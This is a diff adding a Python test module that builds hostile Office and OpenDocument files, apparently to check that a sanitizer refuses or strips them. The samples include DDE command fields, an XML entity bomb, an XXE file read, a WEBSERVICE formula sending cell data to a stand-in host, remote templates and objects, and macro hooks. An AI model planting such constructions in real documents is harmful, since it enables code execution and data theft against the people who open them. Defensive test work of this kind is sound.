@@ -1,0 +1,330 @@
+"""Documents of Word, PowerPoint, Excel and OpenDocument that do what no reader asked for.
+
+Each holds « EVIL » where its harm is: the file is refused, or comes out without.
+"""
+
+import re
+
+from tests.documents import ODF_KIND, REL, A, P, W, docx, manifest, ods, odt, pptx, relations, xlsx
+from tests.files import archive_bytes
+
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
+STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+
+
+def settings(inner: str) -> dict:
+    return {"word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{REL}">{inner}</w:settings>'}
+
+
+def run(inner: str) -> str:
+    return f"<w:p><w:r>{inner}</w:r></w:p>"
+
+
+def field(words: str) -> str:
+    """Return a field whose words are cut into pieces, as evasion does."""
+    pieces = "".join(
+        f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in re.findall("EVIL|.", words)
+    )
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:t>montré</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def utf16(text: str) -> bytes:
+    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+
+
+def with_entities() -> bytes:
+    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
+    text = f'<!DOCTYPE w [<!ENTITY e0 "EVIL">{bomb}]><w:document xmlns:w="{W}"><w:body>&e8;</w:body></w:document>'
+    return docx(parts={"word/document.xml": text})
+
+
+def with_file_of_the_server() -> bytes:
+    text = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/EVIL">]><w:document xmlns:w="{W}">&e;</w:document>'
+    return docx(parts={"word/document.xml": text})
+
+
+def odf_link(element: str) -> bytes:
+    return odt(f"<text:p><draw:frame>{element}</draw:frame></text:p>")
+
+
+OLE = '<w:object><v:shape/><o:OLEObject Type="Embed" ProgID="{}" r:id="e"/></w:object>'
+TEMPLATE = '<w:attachedTemplate r:id="e"/>'
+FAR = "!https://EVIL.example/x"
+
+HOSTILE = {
+    # Word: what acts
+    "macros": ("docx", docx(parts={"word/x.bin": "EVIL"}, links=[("e", f"{MICROSOFT}/vbaProject", "x.bin")])),
+    "macros renamed": (
+        "docx",
+        docx(
+            parts={"word/theme/t.xml": "EVIL"},
+            links=[("e", f"{MICROSOFT}/vbaProject", "theme/t.xml")],
+            types={"word/theme/t.xml": "application/xml"},
+        ),
+    ),
+    "macro document by type": (
+        "docx",
+        docx(types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
+    ),
+    "macros nobody leads to": ("docx", docx(parts={"word/vbaProject.bin": "EVIL"})),
+    "dde in pieces": ("docx", docx(field('DDEAUTO c:\\\\EVIL "/k calc"'))),
+    "dde in a simple field": (
+        "docx",
+        docx('<w:p><w:fldSimple w:instr=" DDE EVIL x "><w:r/></w:fldSimple></w:p>'),
+    ),
+    "dde with another prefix": (
+        "docx",
+        docx(f'<x:p xmlns:x="{W}"><x:fldSimple x:instr="DDEAUTO EVIL"><x:r/></x:fldSimple></x:p>'),
+    ),
+    "dde with an entity for a letter": ("docx", docx('<w:p><w:fldSimple w:instr="&#68;DEAUTO EVIL"/></w:p>')),
+    "dde made by a nested field": (
+        "docx",
+        docx(
+            run('<w:fldChar w:fldCharType="begin"/>')
+            + run("<w:instrText>DDEAUTO </w:instrText>")
+            + field("QUOTE 69 86 EVIL")
+            + run('<w:fldChar w:fldCharType="end"/>')
+        ),
+    ),
+    "dde in a header": (
+        "docx",
+        docx(
+            parts={
+                "word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:p><w:fldSimple w:instr="DDE EVIL"/></w:p></w:hdr>'
+            },
+            links=[("h", "header", "header1.xml")],
+        ),
+    ),
+    "field that never ends": (
+        "docx",
+        docx(run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText>DDEAUTO EVIL</w:instrText>")),
+    ),
+    "field that takes in a file": ("docx", docx(field('INCLUDETEXT "\\\\\\\\EVIL\\\\x"'))),
+    "field that loads a picture": ("docx", docx(field('INCLUDEPICTURE "http://EVIL.example/x.png" \\d'))),
+    "link to a file of the network": ("docx", docx(field('HYPERLINK "file://EVIL/share/x.exe"'))),
+    "relation to a file of the network": (
+        "docx",
+        docx('<w:p><w:hyperlink r:id="e"/></w:p>', links=[("e", "hyperlink", "!\\\\EVIL\\x.exe")]),
+    ),
+    "script as a link": (
+        "docx",
+        docx('<w:p><w:hyperlink r:id="e"/></w:p>', links=[("e", "hyperlink", "!javascript:EVIL")]),
+    ),
+    "active control": (
+        "docx",
+        docx(run('<w:control r:id="e"/>'), {"word/c.xml": "<EVIL/>"}, [("e", "control", "c.xml")]),
+    ),
+    "form field with a macro": ("docx", docx(run('<w:ffData><w:entryMacro w:val="EVIL"/></w:ffData>'))),
+    # Word: what is carried or loaded
+    "another document taken in": (
+        "docx",
+        docx('<w:altChunk r:id="e"/>', {"word/x.html": "EVIL"}, [("e", "aFChunk", "x.html")]),
+    ),
+    "another document without its relation": ("docx", docx('<w:altChunk r:id="EVIL"/>')),
+    "document of parts": ("docx", docx('<w:subDoc r:id="e"/>', links=[("e", "subDocument", FAR)])),
+    "executable in an object": (
+        "docx",
+        docx(
+            run(OLE.format("Package")),
+            {"word/embeddings/o.bin": "MZ EVIL"},
+            [("e", "oleObject", "embeddings/o.bin")],
+        ),
+    ),
+    "executable behind an equation": (
+        "docx",
+        docx(run(OLE.format("Equation.3")), {"word/o.bin": "EVIL"}, [("e", "oleObject", "o.bin")]),
+    ),
+    "executable as a picture": (
+        "docx",
+        docx(parts={"word/media/x.png": "MZ EVIL"}, links=[("e", "image", "media/x.png")]),
+    ),
+    "object of elsewhere": ("docx", docx(run(OLE.format("htmlfile")), links=[("e", "oleObject", FAR)])),
+    "template of elsewhere": (
+        "docx",
+        docx(
+            parts=settings(TEMPLATE),
+            links=[("s", "settings", "settings.xml")],
+            more_links={"word/settings.xml": [("e", "attachedTemplate", FAR)]},
+        ),
+    ),
+    "template of elsewhere, strict": (
+        "docx",
+        docx(
+            parts=settings(TEMPLATE),
+            links=[("s", "settings", "settings.xml")],
+            more_links={"word/settings.xml": [("e", f"{STRICT}/attachedTemplate", FAR)]},
+        ),
+    ),
+    "template of elsewhere in UTF-16": (
+        "docx",
+        docx(
+            parts={
+                **{name: utf16(text) for name, text in settings(TEMPLATE).items()},
+                "word/_rels/settings.xml.rels": utf16(relations([("e", "attachedTemplate", FAR)])),
+            },
+            links=[("s", "settings", "settings.xml")],
+        ),
+    ),
+    "picture of elsewhere": (
+        "docx",
+        docx(run('<w:drawing><a:blip r:link="e"/></w:drawing>'), links=[("e", "image", FAR)]),
+    ),
+    "picture of elsewhere in an old drawing": (
+        "docx",
+        docx(run('<w:pict><v:shape><v:imagedata src="http://EVIL.example/x.png"/></v:shape></w:pict>')),
+    ),
+    "frames of elsewhere": (
+        "docx",
+        docx(
+            parts={"word/webSettings.xml": f'<w:webSettings xmlns:w="{W}"><w:frameset/></w:webSettings>'},
+            links=[("s", "webSettings", "webSettings.xml")],
+            more_links={"word/webSettings.xml": [("e", "frame", FAR)]},
+        ),
+    ),
+    "letters for data of elsewhere": (
+        "docx",
+        docx(
+            parts=settings('<w:mailMerge><w:connectString w:val="EVIL"/></w:mailMerge>'),
+            links=[("s", "settings", "settings.xml")],
+        ),
+    ),
+    "unknown relation that is used": (
+        "docx",
+        docx(run('<w:x r:id="e"/>'), {"word/x.xml": "<EVIL/>"}, [("e", "http://x/somethingNew", "x.xml")]),
+    ),
+    "unknown relation outside": ("docx", docx(links=[("e", "http://x/somethingNew", FAR)])),
+    "entities without end": ("docx", with_entities()),
+    "a file of the server": ("docx", with_file_of_the_server()),
+    "ribbon with calls": (
+        "docx",
+        docx(
+            parts={"customUI/x.xml": "<EVIL/>"},
+            root=[("e", f"{MICROSOFT.replace('2006', '2007')}/ui/extensibility", "customUI/x.xml")],
+        ),
+    ),
+    "drawing with a script": (
+        "docx",
+        docx(
+            parts={
+                "word/media/x.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL()'><script>EVIL</script></svg>"
+            },
+            links=[("e", "image", "media/x.svg")],
+        ),
+    ),
+    # PowerPoint
+    "click that starts a program": (
+        "pptx",
+        pptx(
+            '<p:sp><a:hlinkClick r:id="e" action="ppaction://program?EVIL"/></p:sp>',
+            links=[("e", "hyperlink", "!file:///EVIL.exe")],
+        ),
+    ),
+    "click that runs a macro": (
+        "pptx",
+        pptx('<p:sp><a:hlinkMouseOver r:id="" action="ppaction://macro?name=EVIL"/></p:sp>'),
+    ),
+    "film of elsewhere": ("pptx", pptx(links=[("e", "video", FAR)])),
+    "sound": ("pptx", pptx(parts={"ppt/media/x.wav": "EVIL"}, links=[("e", "audio", "../media/x.wav")])),
+    "object of another program": (
+        "pptx",
+        pptx(
+            f'<p:graphicFrame xmlns:p="{P}"><a:graphic xmlns:a="{A}"><p:oleObj progId="Package" r:id="e"/></a:graphic></p:graphicFrame>',
+            {"ppt/o.bin": "EVIL"},
+            [("e", "oleObject", "../o.bin")],
+        ),
+    ),
+    # Excel
+    "values of another file": (
+        "xlsx",
+        xlsx(
+            book='<externalReferences><externalReference r:id="e"/></externalReferences>',
+            parts={"xl/externalLinks/e.xml": "<EVIL/>"},
+            book_links=[("e", "externalLink", "externalLinks/e.xml")],
+        ),
+    ),
+    "dde in a formula": ("xlsx", xlsx("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>1</v></c>")),
+    "question to the web": ("xlsx", xlsx('<c r="B1"><f>WEBSERVICE("http://EVIL/"&amp;A1)</f><v>1</v></c>')),
+    "macro sheet": (
+        "xlsx",
+        xlsx(parts={"xl/m.xml": "<EVIL/>"}, book_links=[("e", f"{MICROSOFT}/xlMacrosheet", "m.xml")]),
+    ),
+    "data of elsewhere": (
+        "xlsx",
+        xlsx(parts={"xl/connections.xml": "<EVIL/>"}, book_links=[("e", "connections", "connections.xml")]),
+    ),
+    "dde in a rule": (
+        "xlsx",
+        xlsx(
+            after='<conditionalFormatting><cfRule><formula>DDE("EVIL";"x")</formula></cfRule></conditionalFormatting>'
+        ),
+    ),
+    "workbook with macros": (
+        "xlsx",
+        xlsx(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
+    ),
+    # OpenDocument
+    "library of macros": ("odt", odt(parts={"Basic/Standard/Module1.xml": "EVIL"})),
+    "macros in the text": (
+        "odt",
+        odt(
+            before="<office:scripts><office:script><ooo:module>EVIL</ooo:module></office:script></office:scripts>"
+        ),
+    ),
+    "event that starts something": (
+        "odt",
+        odt(
+            '<text:p><text:a xlink:href="https://police.be"><office:event-listeners>'
+            '<script:event-listener script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:EVIL"/>'
+            "</office:event-listeners>x</text:a></text:p>"
+        ),
+    ),
+    "macro at a click": ("odt", odt('<text:p><text:a xlink:href="macro:///EVIL">x</text:a></text:p>')),
+    "picture from the web": ("odt", odf_link('<draw:image xlink:href="https://EVIL.example/x.png"/>')),
+    "picture of the network": ("odt", odf_link('<draw:image xlink:href="//EVIL/x.png"/>')),
+    "picture of the disk": ("odt", odf_link('<draw:image xlink:href="../../EVIL.png"/>')),
+    "object of elsewhere, open": ("odt", odf_link('<draw:object xlink:href="file:///EVIL.odt"/>')),
+    "binary object": ("odt", odf_link('<draw:object-ole xlink:href="./EVIL"/>')),
+    "frame of elsewhere": ("odt", odf_link('<draw:floating-frame xlink:href="https://EVIL.example"/>')),
+    "part of elsewhere": (
+        "odt",
+        odt(
+            '<text:section><text:section-source xlink:href="https://EVIL.example/x.odt"/><text:p>x</text:p></text:section>'
+        ),
+    ),
+    "dde in a text": (
+        "odt",
+        odt(
+            '<text:dde-connection-decls><text:dde-connection-decl office:dde-application="EVIL"/></text:dde-connection-decls>'
+        ),
+    ),
+    "dde in a cell": (
+        "ods",
+        ods('<table:table-cell table:formula="of:=DDE(&quot;EVIL&quot;;&quot;x&quot;)" office:value="1"/>'),
+    ),
+    "cell of another file": (
+        "ods",
+        ods('<table:table-cell table:formula="of:=\'file:///EVIL.ods\'#$F.A1" office:value="1"/>'),
+    ),
+    "sheet of another file": (
+        "ods",
+        ods(
+            '<table:table-cell/></table:table-row></table:table><table:table><table:table-source xlink:href="//EVIL/x.ods"/><table:table-row>'
+        ),
+    ),
+    "locked": (
+        "odt",
+        odt(
+            parts={
+                "META-INF/manifest.xml": manifest({"content.xml": "text/xml"}, "<m:encryption-data/>"),
+                "EVIL": "",
+            }
+        ),
+    ),
+    "another kind inside": (
+        "odt",
+        archive_bytes({"mimetype": f"{ODF_KIND}text-template", "content.xml": "<EVIL/>"}),
+    ),
+}
